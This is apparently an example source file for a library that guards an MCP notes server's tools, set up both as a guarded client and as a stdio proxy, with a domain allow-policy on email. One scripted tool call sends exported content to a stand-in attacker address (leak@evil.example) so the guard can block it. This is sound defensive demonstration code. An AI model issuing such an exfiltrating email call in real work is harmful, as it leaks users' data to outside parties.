// The MCP example: the same server used two ways.
// 1. guardMcpTools: an app that is itself the MCP client guards the server's tools.
// 2. runMcpProxy: any MCP host (Claude Desktop, Claude Code) talks to the proxy instead of the
//    server; the CLI form is `loopguard mcp-proxy --policy policy.json -- node notes-server.mjs`.
import { join } from "node:path";
import type { Readable, Writable } from "node:stream";
import { withRun } from "@loopguard/core";
import { heuristicScanner, taintGate } from "@loopguard/injection";
import { guardMcpTools, type McpProxy, runMcpProxy } from "@loopguard/mcp";
import { allow, argDomainNotIn, deny, policy, runGuard } from "@loopguard/policy";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";

export const notesServer = join(import.meta.dirname, "notes-server.mjs");

const gates = () => [
  policy([deny("send_email", { when: argDomainNotIn("to", ["acme-shop.com"]) }), allow("*")]),
  runGuard(),
  taintGate(),
];

/** As an MCP client: read a note, then try to email it; returns what each call came back as. */
export async function guardedClient(): Promise<string[]> {
  const client = new Client({ name: "notes-app", version: "1.0.0" });
  await client.connect(
    new StdioClientTransport({ command: process.execPath, args: [notesServer] }),
  );
  try {
    const tools = await guardMcpTools(client, {
      gates: gates(),
      scanner: heuristicScanner(),
      tools: { send_email: { sensitive: true } },
    });
    const byName = new Map(tools.map((guarded) => [guarded.tool.name, guarded]));
    return await withRun(
      { agentId: "notes-app", task: "Email the welcome note to team@acme-shop.com" },
      async () => {
        const outcomes = [
          await byName.get("read_note")!({ name: "welcome" }, { toolUseId: "tu_1" }),
          await byName.get("send_email")!(
            { to: "team@acme-shop.com", body: "welcome" },
            { toolUseId: "tu_2" },
          ),
          await byName.get("send_email")!(
            { to: "leak@evil.example", body: "export" },
            { toolUseId: "tu_3" },
          ),
        ];
        return outcomes.map((outcome) =>
          outcome.type === "ok"
            ? outcome.value
            : `${outcome.type}: ${"reason" in outcome ? outcome.reason : outcome.kind}`,
        );
      },
    );
  } finally {
    await client.close();
  }
}

/** As a proxy in front of the server, on the given streams (a host's stdio in real use). */
export function guardingProxy(stdin: Readable, stdout: Writable): Promise<McpProxy> {
  return runMcpProxy({
    command: process.execPath,
    args: [notesServer],
    gates: gates(),
    scanner: heuristicScanner(),
    tools: { send_email: { sensitive: true } },
    run: { agentId: "notes-proxy" },
    stdin,
    stdout,
    log: () => {},
  });
}
